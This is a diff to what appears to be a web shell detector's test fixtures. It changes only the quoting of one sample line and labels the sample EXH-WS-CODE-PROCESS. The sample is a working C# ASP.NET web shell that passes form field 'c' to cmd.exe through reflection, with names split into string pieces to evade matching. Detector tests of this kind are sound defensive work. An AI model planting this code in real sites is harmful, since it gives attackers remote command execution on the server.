@@ -15,7 +15,7 @@ SHELLS = [
         cs_page(
             'string c = Request.Form["c"];\n'
             'Type.GetType("System.Diagnostics.Pro" + "cess, System").GetMethod("St" + "art", '
-            "new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"cmd.exe\", \"/c \" + c });"
+            'new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + c });'
         ),
         "EXH-WS-CODE-PROCESS",
         ["form field 'c'", "called by reflection as System.Diagnostics.Process.Start"],
